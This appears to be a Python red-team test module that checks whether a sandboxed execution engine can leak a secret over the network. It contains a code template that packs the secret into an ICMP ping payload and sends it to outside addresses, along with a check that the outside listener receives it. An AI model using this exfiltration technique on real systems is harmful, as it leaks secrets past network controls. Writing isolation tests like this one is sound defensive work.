from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

PING = """
import socket, struct
for address in {addresses}:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sending:
            sending.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + secret, (address, 0))
    except OSError as problem:
        print(problem)
"""


@channel("network-icmp", "A ping with it as the payload", closed_by="an engine has no network")
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(PING.format(addresses=site.outside.addresses))
    return site.outside.hears(secret)
